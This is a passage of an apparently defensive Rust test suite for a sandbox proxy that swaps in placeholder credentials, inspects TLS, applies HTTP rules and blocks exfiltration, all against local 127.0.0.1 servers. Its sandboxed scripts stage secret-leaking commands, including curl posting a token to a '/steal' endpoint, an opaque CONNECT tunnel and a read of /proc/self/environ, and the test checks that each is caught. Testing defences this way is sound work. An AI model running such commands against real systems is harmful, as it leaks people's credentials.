@@ -1,0 +1,1137 @@
+//! The credentials door's network half, end to end: TLS inspection with
+//! the sandbox's own CA, injected secrets, HTTP rules, upstream
+//! verification. The upstreams are HTTPS servers this test starts on
+//! 127.0.0.1 with a CA it makes (passed with --upstream-ca).
+
+mod common;
+
+use std::convert::Infallible;
+use std::path::Path;
+use std::sync::{Arc, Mutex};
+
+use bytes::Bytes;
+use http_body_util::{BodyExt, Full};
+use hyper::{Request, Response};
+use hyper_util::rt::{TokioExecutor, TokioIo};
+use rcgen::{BasicConstraints, CertificateParams, IsCa, KeyPair, SanType};
+use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
+
+use common::*;
+
+/// A CA for the upstreams, and its PEM.
+struct TestCa {
+    cert: rcgen::Certificate,
+    key: KeyPair,
+}
+
+impl TestCa {
+    fn new(name: &str) -> TestCa {
+        let key = KeyPair::generate().unwrap();
+        let mut params = CertificateParams::default();
+        params
+            .distinguished_name
+            .push(rcgen::DnType::CommonName, name);
+        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+        let cert = params.self_signed(&key).unwrap();
+        TestCa { cert, key }
+    }
+
+    fn pem(&self) -> String {
+        self.cert.pem()
+    }
+
+    /// A leaf for 127.0.0.1.
+    fn leaf(&self) -> (Vec<CertificateDer<'static>>, PrivateKeyDer<'static>) {
+        let key = KeyPair::generate().unwrap();
+        let mut params = CertificateParams::default();
+        params.subject_alt_names = vec![SanType::IpAddress("127.0.0.1".parse().unwrap())];
+        let cert = params.signed_by(&key, &self.cert, &self.key).unwrap();
+        (
+            vec![cert.der().clone()],
+            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
+        )
+    }
+}
+
+/// An HTTPS upstream on 127.0.0.1 (HTTP/1.1 and HTTP/2): answers every
+/// request with an echo of its method, target, headers and body, and
+/// keeps a copy of each echo.
+struct Upstream {
+    port: u16,
+    seen: Arc<Mutex<Vec<String>>>,
+}
+
+/// A git repository served over smart HTTP by `git http-backend`, behind
+/// Basic authentication with one password.
+#[derive(Clone)]
+struct GitSite {
+    root: std::path::PathBuf,
+    password: String,
+}
+
+impl Upstream {
+    fn start(ca: &TestCa) -> Upstream {
+        Self::start_with(ca, None)
+    }
+
+    fn start_with(ca: &TestCa, git: Option<GitSite>) -> Upstream {
+        let (chain, key) = ca.leaf();
+        let mut config = rustls::ServerConfig::builder_with_provider(Arc::new(
+            rustls::crypto::ring::default_provider(),
+        ))
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_no_client_auth()
+        .with_single_cert(chain, key)
+        .unwrap();
+        config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
+        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let log = seen.clone();
+        std::thread::spawn(move || {
+            let rt = tokio::runtime::Builder::new_current_thread()
+                .enable_all()
+                .build()
+                .unwrap();
+            rt.block_on(async move {
+                let listener = tokio::net::TcpListener::from_std(listener).unwrap();
+                while let Ok((tcp, _)) = listener.accept().await {
+                    let acceptor = acceptor.clone();
+                    let log = log.clone();
+                    let git = git.clone();
+                    tokio::spawn(async move {
+                        // As real servers do: no Nagle delay on small writes.
+                        let _ = tcp.set_nodelay(true);
+                        let Ok(tls) = acceptor.accept(tcp).await else {
+                            return;
+                        };
+                        let h2 = tls.get_ref().1.alpn_protocol() == Some(b"h2");
+                        let service = hyper::service::service_fn(move |req| {
+                            let log = log.clone();
+                            let git = git.clone();
+                            async move {
+                                Ok::<_, Infallible>(match git {
+                                    Some(site) => {
+                                        let (parts, body) =
+                                            git_backend(req, &site, &log).await.into_parts();
+                                        Response::from_parts(parts, body.boxed())
+                                    }
+                                    None => echo(req, h2, &log).await,
+                                })
+                            }
+                        });
+                        let io = TokioIo::new(tls);
+                        if h2 {
+                            let _ = hyper::server::conn::http2::Builder::new(TokioExecutor::new())
+                                .serve_connection(io, service)
+                                .await;
+                        } else {
+                            let _ = hyper::server::conn::http1::Builder::new()
+                                .serve_connection(io, service)
+                                .with_upgrades()
+                                .await;
+                        }
+                    });
+                }
+            });
+        });
+        Upstream { port, seen }
+    }
+
+    fn seen(&self) -> String {
+        self.seen.lock().unwrap().join("\n----\n")
+    }
+}
+
+/// Serves one request with `git http-backend` (CGI), after checking Basic
+/// credentials `git:<password>`.
+async fn git_backend(
+    req: Request<hyper::body::Incoming>,
+    site: &GitSite,
+    log: &Mutex<Vec<String>>,
+) -> Response<Full<Bytes>> {
+    use base64::Engine as _;
+    let expected = format!(
+        "Basic {}",
+        base64::engine::general_purpose::STANDARD.encode(format!("git:{}", site.password))
+    );
+    let auth = req
+        .headers()
+        .get("authorization")
+        .map(|v| String::from_utf8_lossy(v.as_bytes()).to_string());
+    log.lock()
+        .unwrap()
+        .push(format!("{} {} auth={auth:?}", req.method(), req.uri()));
+    if auth.as_deref() != Some(expected.as_str()) {
+        let mut resp = Response::new(Full::new(Bytes::from_static(b"who are you?\n")));
+        *resp.status_mut() = hyper::StatusCode::UNAUTHORIZED;
+        resp.headers_mut().insert(
+            "www-authenticate",
+            hyper::header::HeaderValue::from_static("Basic realm=\"test\""),
+        );
+        return resp;
+    }
+    let method = req.method().to_string();
+    let path = req.uri().path().to_string();
+    let query = req.uri().query().unwrap_or_default().to_string();
+    let content_type = req
+        .headers()
+        .get("content-type")
+        .map(|v| String::from_utf8_lossy(v.as_bytes()).to_string())
+        .unwrap_or_default();
+    let gzip = req
+        .headers()
+        .get("content-encoding")
+        .is_some_and(|v| v.as_bytes() == b"gzip");
+    let body = req.into_body().collect().await.unwrap().to_bytes();
+    let root = site.root.clone();
+    let out = tokio::task::spawn_blocking(move || {
+        use std::io::Write;
+        let mut child = std::process::Command::new("git")
+            .arg("http-backend")
+            .env_clear()
+            .env("PATH", PATH)
+            .env("GIT_PROJECT_ROOT", &root)
+            .env("GIT_HTTP_EXPORT_ALL", "1")
+            .env("REQUEST_METHOD", method)
+            .env("PATH_INFO", path.trim_start_matches("/git"))
+            .env("QUERY_STRING", query)
+            .env("CONTENT_TYPE", content_type)
+            .env("HTTP_CONTENT_ENCODING", if gzip { "gzip" } else { "" })
+            .env("REMOTE_USER", "git")
+            .env("REMOTE_ADDR", "127.0.0.1")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("HOME", &root)
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut stdin = child.stdin.take().unwrap();
+        stdin.write_all(&body).unwrap();
+        drop(stdin);
+        child.wait_with_output().unwrap().stdout
+    })
+    .await
+    .unwrap();
+    // CGI: headers, a blank line, the body.
+    let split = out
+        .windows(4)
+        .position(|w| w == b"\r\n\r\n")
+        .map(|i| (i, 4))
+        .or_else(|| out.windows(2).position(|w| w == b"\n\n").map(|i| (i, 2)))
+        .unwrap();
+    let head = String::from_utf8_lossy(&out[..split.0]).to_string();
+    let mut resp = Response::new(Full::new(Bytes::copy_from_slice(&out[split.0 + split.1..])));
+    for line in head.lines() {
+        let Some((k, v)) = line.split_once(':') else {
+            continue;
+        };
+        if k.eq_ignore_ascii_case("status") {
+            let code: u16 = v.trim()[..3].parse().unwrap();
+            *resp.status_mut() = hyper::StatusCode::from_u16(code).unwrap();
+        } else {
+            resp.headers_mut().insert(
+                hyper::header::HeaderName::from_bytes(k.trim().as_bytes()).unwrap(),
+                hyper::header::HeaderValue::from_str(v.trim()).unwrap(),
+            );
+        }
+    }
+    resp
+}
+
+/// A response body sent in the given chunks, without a length.
+struct Chunks(std::collections::VecDeque<Bytes>);
+
+impl hyper::body::Body for Chunks {
+    type Data = Bytes;
+    type Error = Infallible;
+    fn poll_frame(
+        mut self: std::pin::Pin<&mut Self>,
+        _: &mut std::task::Context<'_>,
+    ) -> std::task::Poll<Option<Result<hyper::body::Frame<Bytes>, Infallible>>> {
+        std::task::Poll::Ready(self.0.pop_front().map(|b| Ok(hyper::body::Frame::data(b))))
+    }
+}
+
+type TestBody = http_body_util::combinators::BoxBody<Bytes, Infallible>;
+
+/// `/big`: 3 MiB, streamed in odd-sized chunks without a length, with the
+/// request's `x-token` every 1000 bytes (so some copies straddle chunks).
+/// Anything else: [`echo_text`].
+async fn echo(
+    mut req: Request<hyper::body::Incoming>,
+    h2: bool,
+    log: &Mutex<Vec<String>>,
+) -> Response<TestBody> {
+    if req.uri().path() == "/ws" {
+        // An upgrade to a toy protocol: after the 101, echo every byte.
+        let on = hyper::upgrade::on(&mut req);
+        tokio::spawn(async move {
+            use tokio::io::{AsyncReadExt, AsyncWriteExt};
+            let Ok(upgraded) = on.await else { return };
+            let mut io = TokioIo::new(upgraded);
+            let mut buf = [0u8; 1024];
+            while let Ok(n) = io.read(&mut buf).await {
+                if n == 0 || io.write_all(&buf[..n]).await.is_err() {
+                    break;
+                }
+            }
+        });
+        let mut resp = Response::new(Full::new(Bytes::new()).boxed());
+        *resp.status_mut() = hyper::StatusCode::SWITCHING_PROTOCOLS;
+        resp.headers_mut().insert(
+            "connection",
+            hyper::header::HeaderValue::from_static("upgrade"),
+        );
+        resp.headers_mut()
+            .insert("upgrade", hyper::header::HeaderValue::from_static("echo"));
+        return resp;
+    }
+    if let Some(n) = req.uri().path().strip_prefix("/bytes/") {
+        let n: usize = n.parse().unwrap_or(0);
+        let chunks = vec![Bytes::from(vec![b'a'; n])].into();
+        let mut resp = Response::new(Chunks(chunks).boxed());
+        resp.headers_mut()
+            .insert("content-length", hyper::header::HeaderValue::from(n));
+        return resp;
+    }
+    if req.uri().path() == "/big" {
+        let token = req
+            .headers()
+            .get("x-token")
+            .map(|v| v.as_bytes().to_vec())
+            .unwrap_or_default();
+        let mut all = Vec::new();
+        while all.len() < 3 << 20 {
+            all.extend_from_slice(&token);
+            all.resize(all.len() + 1000 - token.len() % 1000, b'.');
+        }
+        let chunks = all.chunks(4093).map(Bytes::copy_from_slice).collect();
+        log.lock()
+            .unwrap()
+            .push(format!("GET /big sent {} bytes", all.len()));
+        return Response::new(Chunks(chunks).boxed());
+    }
+    let close = req.uri().path() == "/close";
+    // `/gzip`: claims compression whatever the client accepts.
+    let gzip = req.uri().path() == "/gzip";
+    let (mut parts, body) = echo_text(req, h2, log).await.into_parts();
+    if gzip {
+        parts.headers.insert(
+            "content-encoding",
+            hyper::header::HeaderValue::from_static("gzip"),
+        );
+    }
+    if close {
+        parts.headers.insert(
+            "connection",
+            hyper::header::HeaderValue::from_static("close"),
+        );
+    }
+    Response::from_parts(parts, body.boxed())
+}
+
+async fn echo_text(
+    req: Request<hyper::body::Incoming>,
+    h2: bool,
+    log: &Mutex<Vec<String>>,
+) -> Response<Full<Bytes>> {
+    let mut text = format!(
+        "{} {} {}\n",
+        req.method(),
+        req.uri(),
+        if h2 { "h2" } else { "h1" }
+    );
+    let mut headers: Vec<String> = req
+        .headers()
+        .iter()
+        .map(|(k, v)| format!("{k}: {}", String::from_utf8_lossy(v.as_bytes())))
+        .collect();
+    headers.sort();
+    for h in headers {
+        text.push_str(&h);
+        text.push('\n');
+    }
+    let echo_header = req
+        .headers()
+        .get("authorization")
+        .cloned()
+        .unwrap_or(hyper::header::HeaderValue::from_static("none"));
+    let body = req.into_body().collect().await.unwrap().to_bytes();
+    text.push('\n');
+    text.push_str(&String::from_utf8_lossy(&body));
+    log.lock().unwrap().push(text.clone());
+    let mut resp = Response::new(Full::new(Bytes::from(text)));
+    resp.headers_mut()
+        .insert("x-echo-authorization", echo_header);
+    resp
+}
+
+/// The sandbox's view of one HTTPS request through the proxy, with curl.
+fn curl(port: u16, path: &str, extra: &str) -> String {
+    format!(
+        "curl -sS --max-time 20 --noproxy '' -x http://127.0.0.1:3128 -D - {extra} https://127.0.0.1:{port}{path}"
+    )
+}
+
+fn write(path: &Path, text: &str, mode: Mode) {
+    std::fs::write(path, text).unwrap();
+    chown(path, mode);
+}
+
+/// The audit log's lines.
+fn audit_text(path: &Path) -> String {
+    std::fs::read_to_string(path).unwrap_or_default()
+}
+
+#[test]
+fn curl_and_python_see_only_the_placeholder() {
+    let ca = TestCa::new("cordon test upstream CA");
+    let up = Upstream::start(&ca);
+    let other = Upstream::start(&ca);
+    each_mode(|mode| {
+        let fx = Fixture::new(mode);
+        let ca_file = fx.outside.join("upstream-ca.pem");
+        write(&ca_file, &ca.pem(), mode);
+        let secret = format!("s3cret-{}", fx.token);
+        let policy = fx.outside.join("policy.toml");
+        write(
+            &policy,
+            &format!(
+                "[[credentials.inject]]\nenv = \"TEST_TOKEN\"\nhosts = [\"127.0.0.1:{}\"]\n",
+                up.port
+            ),
+            mode,
+        );
+        let log = fx.outside.join("audit.jsonl");
+        let script = format!(
+            "echo \"env: $TEST_TOKEN\"\n\
+             {}\n\
+             echo '== h2'\n\
+             {}\n\
+             echo '== basic'\n\
+             {}\n\
+             echo '== other'\n\
+             {}\n\
+             echo '== python'\n\
+             NO_PROXY= no_proxy= {PY} -c \"import os, urllib.request as u; r = u.Request('https://127.0.0.1:{}/py', headers={{'X-Key': os.environ['TEST_TOKEN']}}); print('py:', u.urlopen(r).read().decode())\"\n\
+             echo '== environ'\n\
+             cat /proc/self/environ | tr '\\0' '\\n' | grep -c '{secret}' || true\n",
+            curl(up.port, "/echo?t=$TEST_TOKEN", "--http1.1 -H \"Authorization: Bearer $TEST_TOKEN\" --data-binary \"body=$TEST_TOKEN\""),
+            curl(up.port, "/h2", "--http2 -H \"X-Token: $TEST_TOKEN\""),
+            curl(up.port, "/basic", "-u \"git:$TEST_TOKEN\""),
+            curl(other.port, "/steal", "-H \"X-Token: $TEST_TOKEN\""),
+            up.port,
+        );
+        let out = fx
+            .sandbox()
+            .env("TEST_TOKEN", &secret)
+            .arg("--audit")
+            .arg(&log)
+            .arg("--policy")
+            .arg(&policy)
+            .arg("--allow-domain")
+            .arg(format!("127.0.0.1:{}", up.port))
+            .arg("--allow-domain")
+            .arg(format!("127.0.0.1:{}", other.port))
+            .arg("--inspect")
+            .arg("127.0.0.1")
+            .arg("--upstream-ca")
+            .arg(&ca_file)
+            .sh(&script);
+        out.ok();
+        let placeholder = out
+            .stdout
+            .lines()
+            .find_map(|l| l.strip_prefix("env: "))
+            .unwrap_or_default()
+            .to_string();
+        assert!(
+            placeholder.starts_with("cordon-placeholder-"),
+            "{mode:?}: {out:#?}"
+        );
+        // Nothing the sandbox saw holds the real value.
+        assert!(!out.stdout.contains(&secret), "{mode:?}: {out:#?}");
+        assert!(!out.stderr.contains(&secret), "{mode:?}: {out:#?}");
+        // The upstream got the real value, in the target, a header and the body.
+        let seen = up.seen();
+        assert!(
+            seen.contains(&format!("/echo?t={secret} h1")),
+            "{mode:?}: {seen}"
+        );
+        assert!(
+            seen.contains(&format!("authorization: Bearer {secret}")),
+            "{mode:?}: {seen}"
+        );
+        assert!(seen.contains(&format!("body={secret}")), "{mode:?}: {seen}");
+        assert!(
+            seen.contains(&format!("x-token: {secret}")),
+            "{mode:?}: {seen}"
+        );
+        assert!(
+            seen.contains("/h2 h2"),
+            "{mode:?}: HTTP/2 did not reach the upstream: {seen}"
+        );
+        assert!(
+            seen.contains(&format!("x-key: {secret}")),
+            "{mode:?}: {seen}"
+        );
+        // Basic: the upstream decodes git:<real value>.
+        use base64::Engine as _;
+        let basic = base64::engine::general_purpose::STANDARD.encode(format!("git:{secret}"));
+        assert!(
+            seen.contains(&format!("authorization: Basic {basic}")),
+            "{mode:?}: {seen}"
+        );
+        // The echoes came back masked.
+        assert!(
+            out.stdout
+                .contains(&format!("authorization: Bearer {placeholder}")),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(
+            out.stdout.contains(&format!("body={placeholder}")),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(
+            out.stdout
+                .contains(&format!("x-echo-authorization: Bearer {placeholder}")),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(out.stdout.contains("py: GET /py h1"), "{mode:?}: {out:#?}");
+        // The other host never saw it: refused with a 403 that says why.
+        assert!(!other.seen().contains(&secret), "{mode:?}");
+        assert!(!other.seen().contains(&placeholder), "{mode:?}");
+        let other_part = out.stdout.split("== other").nth(1).unwrap_or_default();
+        assert!(other_part.contains("403"), "{mode:?}: {out:#?}");
+        assert!(other_part.contains("TEST_TOKEN"), "{mode:?}: {out:#?}");
+        // The environment holds the placeholder only.
+        let environ = out.stdout.split("== environ").nth(1).unwrap_or_default();
+        assert_eq!(environ.trim(), "0", "{mode:?}: {out:#?}");
+        // The log names the variable, never the value.
+        let text = audit_text(&log);
+        assert!(!text.contains(&secret), "{mode:?}: {text}");
+        assert!(
+            text.contains("\"door\":\"credentials\""),
+            "{mode:?}: {text}"
+        );
+        assert!(text.contains("attempted exfiltration"), "{mode:?}: {text}");
+        assert!(
+            text.contains("[[credentials.inject]] TEST_TOKEN"),
+            "{mode:?}: {text}"
+        );
+    });
+}
+
+/// A plain TCP server on 127.0.0.1 that records what it receives and
+/// answers with a minimal HTTP response.
+fn plain_server() -> (u16, Arc<Mutex<Vec<u8>>>) {
+    use std::io::{Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let got = Arc::new(Mutex::new(Vec::new()));
+    let log = got.clone();
+    std::thread::spawn(move || {
+        for mut s in listener.incoming().flatten() {
+            let log = log.clone();
+            std::thread::spawn(move || {
+                let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(5)));
+                let mut buf = [0u8; 4096];
+                while let Ok(n) = s.read(&mut buf) {
+                    if n == 0 {
+                        break;
+                    }
+                    log.lock().unwrap().extend_from_slice(&buf[..n]);
+                    let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
+                }
+            });
+        }
+    });
+    (port, got)
+}
+
+#[test]
+fn rules_bad_certificates_and_opaque_tunnels() {
+    let ca = TestCa::new("cordon test upstream CA");
+    let rogue = TestCa::new("rogue CA");
+    let up = Upstream::start(&ca);
+    let bad = Upstream::start(&rogue);
+    let plain = Upstream::start(&ca);
+    let (tcp_port, tcp_got) = plain_server();
+    each_mode(|mode| {
+        let fx = Fixture::new(mode);
+        let ca_file = fx.outside.join("upstream-ca.pem");
+        write(&ca_file, &ca.pem(), mode);
+        let secret = format!("s3cret-{}", fx.token);
+        let policy = fx.outside.join("policy.toml");
+        write(
+            &policy,
+            &format!(
+                "[network]\ninspect = [\"127.0.0.1:{up}\", \"127.0.0.1:{bad}\"]\n\n\
+                 [[network.rules]]\nhost = \"127.0.0.1:{up}\"\nmethods = [\"GET\"]\npaths = [\"/allowed/**\"]\n\n\
+                 [[credentials.inject]]\nenv = \"TEST_TOKEN\"\nhosts = [\"127.0.0.1:{up}\"]\n",
+                up = up.port,
+                bad = bad.port
+            ),
+            mode,
+        );
+        let log = fx.outside.join("audit.jsonl");
+        let opaque = format!(
+            "import socket\n\
+             s = socket.create_connection(('127.0.0.1', 3128))\n\
+             s.sendall(b'CONNECT 127.0.0.1:{tcp_port} HTTP/1.1\\r\\n\\r\\n')\n\
+             print('connect:', s.recv(100).split(b'\\r\\n')[0].decode())\n\
+             import os\n\
+             s.sendall(b'GET /?t=' + os.environ['TEST_TOKEN'].encode() + b' HTTP/1.1\\r\\n\\r\\n')\n\
+             s.settimeout(10)\n\
+             print('opaque:', repr(s.recv(100)))\n"
+        );
+        // curl trusting the upstreams' CA alone, not the sandbox's bundle.
+        let own_cert = |port: u16, path: &str| {
+            format!(
+                "curl -sS --max-time 20 --noproxy '' -x http://127.0.0.1:3128 --cacert {} https://127.0.0.1:{port}{path} >/dev/null",
+                ca_file.display()
+            )
+        };
+        let script = format!(
+            "echo '== get-allowed'\n{}\n\
+             echo '== post-allowed'\n{}\n\
+             echo '== get-other'\n{}\n\
+             echo '== dotdot'\n{}\n\
+             echo '== bad'\n{}\n\
+             echo '== plain-own-cert'\n{} && echo PLAIN-VERIFIED\n\
+             echo '== inspected-own-cert'\n{} || echo INSPECTED-NOT-VERIFIED\n\
+             echo '== socks'\n\
+             curl -sS --max-time 20 --noproxy '' --socks5-hostname 127.0.0.1:1080 -H \"X-Token: $TEST_TOKEN\" https://127.0.0.1:{}/allowed/socks\n\
+             echo '== http'\n\
+             curl -sS --max-time 20 --noproxy '' -x http://127.0.0.1:3128 -D - \"http://127.0.0.1:{tcp_port}/?t=$TEST_TOKEN\"\n\
+             echo '== opaque'\n\
+             {PY} -c \"$OPAQUE\"\n",
+            curl(up.port, "/allowed/x", "-H \"X-Token: $TEST_TOKEN\""),
+            curl(up.port, "/allowed/x", "-X POST"),
+            curl(up.port, "/other", ""),
+            curl(up.port, "/allowed/%2e%2e/other", "--path-as-is"),
+            curl(bad.port, "/", ""),
+            own_cert(plain.port, "/plain"),
+            own_cert(up.port, "/allowed/y"),
+            up.port,
+        );
+        let out = fx
+            .sandbox()
+            .env("TEST_TOKEN", &secret)
+            .env("OPAQUE", &opaque)
+            .arg("--audit")
+            .arg(&log)
+            .arg("--policy")
+            .arg(&policy)
+            .arg("--allow-domain")
+            .arg("127.0.0.1")
+            .arg("--ports")
+            .arg(format!(
+                "{},{},{},{tcp_port}",
+                up.port, bad.port, plain.port
+            ))
+            .arg("--upstream-ca")
+            .arg(&ca_file)
+            .sh(&script);
+        let part = |name: &str| {
+            out.stdout
+                .split(&format!("== {name}\n"))
+                .nth(1)
+                .and_then(|p| p.split("\n== ").next())
+                .unwrap_or_default()
+                .to_string()
+        };
+        let status = |name: &str| {
+            part(name)
+                .lines()
+                .rfind(|l| l.starts_with("HTTP/"))
+                .unwrap_or_default()
+                .trim()
+                .to_string()
+        };
+        assert_eq!(status("get-allowed"), "HTTP/2 200", "{mode:?}: {out:#?}");
+        assert_eq!(status("post-allowed"), "HTTP/2 403", "{mode:?}: {out:#?}");
+        assert_eq!(status("get-other"), "HTTP/2 403", "{mode:?}: {out:#?}");
+        assert_eq!(status("dotdot"), "HTTP/2 403", "{mode:?}: {out:#?}");
+        assert!(
+            part("get-other").contains("[[network.rules]]"),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(part("get-other").contains("GET"), "{mode:?}: {out:#?}");
+        // The upstream saw the allowed request only.
+        let seen = up.seen();
+        assert!(seen.contains("/allowed/x"), "{mode:?}: {seen}");
+        assert!(!seen.contains("POST"), "{mode:?}: {seen}");
+        assert!(!seen.contains("/other"), "{mode:?}: {seen}");
+        // A certificate the upstream CA did not sign: refused, not relayed.
+        assert_eq!(
+            status("bad"),
+            "HTTP/1.1 502 Bad Gateway",
+            "{mode:?}: {out:#?}"
+        );
+        assert!(
+            part("bad").contains("could not be verified"),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(bad.seen().is_empty(), "{mode:?}: {}", bad.seen());
+        // Uninspected: the client sees the upstream's own certificate;
+        // inspected: it sees the sandbox CA's leaf instead.
+        assert!(out.stdout.contains("PLAIN-VERIFIED"), "{mode:?}: {out:#?}");
+        assert!(
+            out.stdout.contains("INSPECTED-NOT-VERIFIED"),
+            "{mode:?}: {out:#?}"
+        );
+        // SOCKS5 is inspected too.
+        assert!(
+            seen.contains(&format!("x-token: {secret}")),
+            "{mode:?}: {seen}"
+        );
+        assert!(seen.contains("/allowed/socks"), "{mode:?}: {seen}");
+        // Plain HTTP and opaque tunnels never carry a placeholder out.
+        assert_eq!(
+            status("http"),
+            "HTTP/1.1 403 Forbidden",
+            "{mode:?}: {out:#?}"
+        );
+        assert!(
+            part("opaque").contains("connect: HTTP/1.1 200"),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(part("opaque").contains("opaque: b''"), "{mode:?}: {out:#?}");
+        let got = String::from_utf8_lossy(&tcp_got.lock().unwrap()).to_string();
+        assert!(!got.contains("cordon-placeholder-"), "{mode:?}: {got}");
+        assert!(!out.stdout.contains(&secret), "{mode:?}: {out:#?}");
+        // The log: the rule, the certificate, the exfiltration attempts.
+        let text = audit_text(&log);
+        assert!(!text.contains(&secret), "{mode:?}: {text}");
+        assert!(
+            text.contains(&format!("127.0.0.1:{} GET /allowed/**", up.port)),
+            "{mode:?}: {text}"
+        );
+        assert!(
+            text.contains("upstream certificates must verify"),
+            "{mode:?}: {text}"
+        );
+        assert!(
+            text.matches("attempted exfiltration").count() >= 2,
+            "{mode:?}: {text}"
+        );
+        assert!(
+            !text.contains("/allowed/x"),
+            "{mode:?}: paths are never logged: {text}"
+        );
+    });
+}
+
+#[test]
+fn git_over_https_with_basic_auth() {
+    let ca = TestCa::new("cordon test upstream CA");
+    let secret = format!("gitpw-{}", rand_token());
+    let served = tempfile::tempdir().unwrap();
+    let repo = served.path().join("repo.git");
+    let run = |args: &[&str], dir: &Path| {
+        let out = std::process::Command::new("git")
+            .args([
+                "-c",
+                "user.name=t",
+                "-c",
+                "user.email=t@e",
+                "-c",
+                "init.defaultBranch=main",
+            ])
+            .args(args)
+            .current_dir(dir)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+    };
+    let work = served.path().join("work");
+    std::fs::create_dir(&work).unwrap();
+    std::fs::write(work.join("hello.txt"), "hello from upstream\n").unwrap();
+    run(&["init", "-q"], &work);
+    run(&["add", "."], &work);
+    run(&["commit", "-q", "-m", "one"], &work);
+    run(
+        &[
+            "clone",
+            "-q",
+            "--bare",
+            work.to_str().unwrap(),
+            repo.to_str().unwrap(),
+        ],
+        served.path(),
+    );
+    run(&["config", "http.receivepack", "true"], &repo);
+    let up = Upstream::start_with(
+        &ca,
+        Some(GitSite {
+            root: served.path().to_path_buf(),
+            password: secret.clone(),
+        }),
+    );
+    each_mode(|mode| {
+        let fx = Fixture::new(mode);
+        let ca_file = fx.outside.join("upstream-ca.pem");
+        write(&ca_file, &ca.pem(), mode);
+        let policy = fx.outside.join("policy.toml");
+        write(
+            &policy,
+            &format!(
+                "[[credentials.inject]]\nenv = \"GIT_PASSWORD\"\nhosts = [\"127.0.0.1:{}\"]\n",
+                up.port
+            ),
+            mode,
+        );
+        let log = fx.outside.join("audit.jsonl");
+        let script = format!(
+            "export NO_PROXY= no_proxy= GIT_CONFIG_NOSYSTEM=1 GIT_TERMINAL_PROMPT=0\n\
+             cd /tmp && git -c http.proxy=http://127.0.0.1:3128 clone -q \"https://git:$GIT_PASSWORD@127.0.0.1:{}/git/repo.git\" clone 2>&1\n\
+             cat clone/hello.txt\n\
+             git -C clone config --get remote.origin.url\n",
+            up.port
+        );
+        let out = fx
+            .sandbox()
+            .env("GIT_PASSWORD", &secret)
+            .arg("--audit")
+            .arg(&log)
+            .arg("--policy")
+            .arg(&policy)
+            .arg("--allow-domain")
+            .arg(format!("127.0.0.1:{}", up.port))
+            .arg("--upstream-ca")
+            .arg(&ca_file)
+            .sh(&script);
+        assert!(
+            out.stdout.contains("hello from upstream"),
+            "{mode:?}: {out:#?}\n{}",
+            up.seen()
+        );
+        // The remote URL inside holds the placeholder, never the password.
+        assert!(
+            out.stdout.contains("cordon-placeholder-"),
+            "{mode:?}: {out:#?}"
+        );
+        assert!(!out.stdout.contains(&secret), "{mode:?}: {out:#?}");
+        assert!(!audit_text(&log).contains(&secret), "{mode:?}");
+        // The upstream got the real password in Basic credentials.
+        use base64::Engine as _;
+        let basic = base64::engine::general_purpose::STANDARD.encode(format!("git:{secret}"));
+        assert!(up.seen().contains(&basic), "{mode:?}: {}", up.seen());
+    });
+}
+
+#[test]
+fn large_bodies_are_masked_and_scanned_as_streams() {
+    let ca = TestCa::new("cordon test upstream CA");
+    let up = Upstream::start(&ca);
+    let other = Upstream::start(&ca);
+    each_mode(|mode| {
+        let fx = Fixture::new(mode);
+        let ca_file = fx.outside.join("upstream-ca.pem");
+        write(&ca_file, &ca.pem(), mode);
+        let secret = format!("s3cret-{}", fx.token);
+        let policy = fx.outside.join("policy.toml");
+        write(
+            &policy,
+            &format!(
+                "[[credentials.inject]]\nenv = \"TEST_TOKEN\"\nhosts = [\"127.0.0.1:{}\"]\n",
+                up.port
+            ),
+            mode,
+        );
+        let log = fx.outside.join("audit.jsonl");
+        let script = format!(
+            "{} -o /tmp/big\n\
+             echo \"size: $(wc -c < /tmp/big)\"\n\
+             echo \"placeholders: $(grep -o \"$TEST_TOKEN\" /tmp/big | wc -l)\"\n\
+             head -c 2000000 /dev/zero | tr '\\0' a > /tmp/upload; echo \"$TEST_TOKEN\" >> /tmp/upload\n\
+             echo '== upload'\n{}\n\
+             echo '== gzip-with-secret'\n{}\n\
+             echo '== gzip-without'\n{}\n",
+            curl(up.port, "/big", "-H \"X-Token: $TEST_TOKEN\""),
+            curl(other.port, "/upload", "--http1.1 --data-binary @/tmp/upload"),
+            curl(up.port, "/gzip", "--http1.1 -H \"X-Token: $TEST_TOKEN\""),
+            curl(up.port, "/gzip", "--http1.1"),
+        );
+        let out = fx
+            .sandbox()
+            .env("TEST_TOKEN", &secret)
+            .arg("--audit")
+            .arg(&log)
+            .arg("--policy")
+            .arg(&policy)
+            .arg("--allow-domain")
+            .arg("127.0.0.1")
+            .arg("--ports")
+            .arg(format!("{},{}", up.port, other.port))
+            .arg("--inspect")
+            .arg("127.0.0.1")
+            .arg("--upstream-ca")
+            .arg(&ca_file)
+            .sh(&script);
+        // The upstream sent the real value ~3000 times; every one came back masked.
+        let copies = (3usize << 20).div_ceil(1000);
+        assert!(
+            out.stdout.contains(&format!("placeholders: {copies}")),
+            "{mode:?}: {}",
+            out.stdout.lines().take(3).collect::<Vec<_>>().join("\n")
+        );
+        assert!(!out.stdout.contains(&secret), "{mode:?}");
